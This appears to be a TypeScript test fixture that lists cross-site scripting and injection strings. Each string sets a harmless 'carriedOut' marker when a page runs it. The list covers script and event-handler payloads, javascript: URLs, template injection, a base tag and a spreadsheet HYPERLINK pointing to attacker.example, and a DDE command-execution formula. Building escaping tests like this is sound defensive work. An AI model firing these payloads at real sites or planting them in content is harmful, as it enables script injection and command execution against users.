/** The global variable that is set in a page if it executes one of the texts. */
export const MARK = "carriedOut";

const act = `window.${MARK}=1`;

/** Texts that set `MARK` if a page interprets them as markup or script. */
export const injections: readonly string[] = [
  `<script>${act}</script>`,
  `"><script>${act}</script>`,
  `'><img src=x onerror="${act}">`,
  `<img src=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</script><script>${act}</script>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>">`,
  `<a href="javascript:${act}" autofocus onfocus=${act}>x</a>`,
  `" autofocus onfocus=${act} x="`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `<math><mtext></mtext><script>${act}</script></math>`,
  `<!--><script>${act}</script>-->`,
  `<style>*{background:url("javascript:${act}")}</style>`,
  `<base href="//attacker.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `[x](javascript:${act})`,
  `![x](x"onerror="${act})`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `\u2028${act}//`,
  `=HYPERLINK("http://attacker.example","x")`,
  `=cmd|'/C calc'!A0`,
  `+1+1`,
  `@SUM(1+1)`,
];
